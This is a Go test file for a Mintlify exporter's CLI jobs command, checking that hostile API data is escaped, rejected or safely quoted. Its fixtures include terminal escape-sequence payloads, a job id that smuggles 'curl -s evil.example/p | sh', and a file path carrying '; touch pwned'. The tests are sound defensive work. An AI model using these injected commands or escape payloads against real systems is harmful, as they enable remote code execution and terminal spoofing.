package jobs

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/mintlify-exporter/mintlify_exporter/internal/cli"
	"github.com/mintlify-exporter/mintlify_exporter/internal/trackfile"
)

// hostileJob is a job whose every text field carries terminal escape
// sequences: a title change (OSC 0), a screen clear, an OSC 8 link, a bare
// CR, a C1 CSI and DEL.
var hostileJob = map[string]any{
	"id":        "job_\x1b]0;owned\x07",
	"status":    "failed",
	"model":     "m\x1b[2J\x7f",
	"source":    map[string]any{"repository": "https://github.com/a/b\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "ref": "main\rFAKE"},
	"prLink":    "https://github.com/a/b/pull/1\u009b31m",
	"createdAt": "2026-03-02T10:00:00Z",
}

// fakeJobsAPI answers every request with job (as JSON).
func fakeJobsAPI(t *testing.T, job map[string]any) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(job)
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func runJobs(t *testing.T, apiURL string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	t.Setenv("MINTLIFY_PROJECT_ID", jobsProject)
	t.Setenv("MINTLIFY_API_KEY", jobsTestKey)
	var out, errb bytes.Buffer
	env := &jobsEnv{
		stdin: strings.NewReader(""), stdout: &out, stderr: &errb,
		getenv: os.Getenv,
		now:    func() time.Time { return jobsStart },
		sleep:  func(ctx context.Context, d time.Duration) error { return ctx.Err() },
	}
	code = env.run(append([]string{"--mintlify.api-url=" + apiURL}, args...))
	return code, out.String(), errb.String()
}

func hasControl(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || !unicode.IsPrint(r) && r != ' ') })
}

// TestJobsEscapesAPIText: table and watch output, and the error texts,
// show the control characters of the API's fields escaped and send none
// to the terminal; JSON output keeps the fields exact.
func TestJobsEscapesAPIText(t *testing.T) {
	api := fakeJobsAPI(t, hostileJob)
	for _, args := range [][]string{{"get", "job_1"}, {"watch", "job_1"}, {"message", "job_1", "--prompt", "x"}, {"create", "--prompt", "x"}} {
		_, out, errs := runJobs(t, api, args...)
		if hasControl(out) || hasControl(errs) {
			t.Errorf("%q: a control character reaches the terminal:\nstdout %q\nstderr %q", args, out, errs)
		}
		for _, want := range []string{`job_\x1b]0;owned\x07`} {
			if !strings.Contains(out, want) {
				t.Errorf("%q: stdout %q lacks %s", args, out, want)
			}
		}
		if args[0] == "get" {
			for _, want := range []string{`m\x1b[2J\x7f`, `main\rFAKE`, `\x1b]8;;http://evil.example\x1b\x\x1b]8;;\x1b\`, `pull/1\u009b31m`} {
				if !strings.Contains(out, want) {
					t.Errorf("get: stdout %q lacks %s", out, want)
				}
			}
		}
		if args[0] == "watch" && !strings.Contains(errs, `job job_\x1b]0;owned\x07 failed`) {
			t.Errorf("watch: stderr %q", errs)
		}
	}
	code, out, errs := runJobs(t, api, "--output=json", "get", "job_1")
	if code != 0 {
		t.Fatalf("json: exit %d, %s", code, errs)
	}
	j := decodeJob(t, out)
	if j.ID != hostileJob["id"] || j.Model != hostileJob["model"] || *j.Ref != "main\rFAKE" || *j.PRLink != hostileJob["prLink"] {
		t.Errorf("JSON output is not exact: %+v", j)
	}
}

// TestJobsTrackNeverAdvisesABadID: an id from the API that fails the id
// rules is not tracked and no command is printed for it.
func TestJobsTrackNeverAdvisesABadID(t *testing.T) {
	job := map[string]any{"id": "x; curl -s evil.example/p | sh #", "status": "active"}
	api := fakeJobsAPI(t, job)
	track := filepath.Join(t.TempDir(), "tracked.txt")
	code, _, errs := runJobs(t, api, "create", "--prompt", "x", "--track", track)
	if code != cli.ExitError || !strings.Contains(errs, "is not a valid job id") || strings.Contains(errs, "echo") || strings.Contains(errs, "by hand") {
		t.Errorf("exit %d, stderr %q", code, errs)
	}
	if _, err := os.Stat(track); !os.IsNotExist(err) {
		t.Errorf("tracked-jobs file written: %v", err)
	}
}

// TestJobsTrackAdviceIsQuoted: when the id cannot be appended, the command
// printed to add it by hand quotes its arguments: pasted into sh, it
// appends exactly the line the exporter reads, even to a path with quotes,
// spaces and a semicolon.
func TestJobsTrackAdviceIsQuoted(t *testing.T) {
	h := newJobsHarness(t, nil)
	track := filepath.Join(t.TempDir(), "it's tracked; touch pwned")
	if err := os.Mkdir(track, 0o755); err != nil { // a directory: Append fails
		t.Fatal(err)
	}
	code, out, errs := h.run("--output=json", "create", "--prompt", "x", "--track", track)
	wantExit(t, "track into a directory", code, 1, errs)
	job := decodeJob(t, out)
	_, cmd, found := strings.Cut(strings.TrimSpace(errs), "add it by hand: ")
	if !found {
		t.Fatalf("no command in %q", errs)
	}
	if err := os.Remove(track); err != nil {
		t.Fatal(err)
	}
	sh := exec.Command("sh", "-c", cmd)
	sh.Dir = t.TempDir()
	if b, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("sh -c %s: %v\n%s", cmd, err, b)
	}
	got, err := trackfile.Read(track)
	if err != nil || len(got) != 1 || got[0] != jobsProject+"/"+job.ID {
		t.Fatalf("after %s: %q, %v", cmd, got, err)
	}
	if _, err := os.Stat(filepath.Join(sh.Dir, "pwned")); err == nil {
		t.Fatal("the command ran more than echo")
	}
}

// TestJobsWatchDropsInvalidPRLink: watch shows a pull-request link only if
// it passes the rule every follower applies (mintlify.ValidPRLink).
func TestJobsWatchDropsInvalidPRLink(t *testing.T) {
	api := fakeJobsAPI(t, map[string]any{"id": "job_1", "status": "completed", "prLink": "http://evil.example/pull/1", "createdAt": "2026-03-02T10:00:00Z"})
	code, out, errs := runJobs(t, api, "watch", "job_1")
	if code != 0 || out != jobsStart.Format(time.RFC3339)+"  job_1  completed\n" {
		t.Errorf("exit %d, stdout %q, stderr %q", code, out, errs)
	}
}
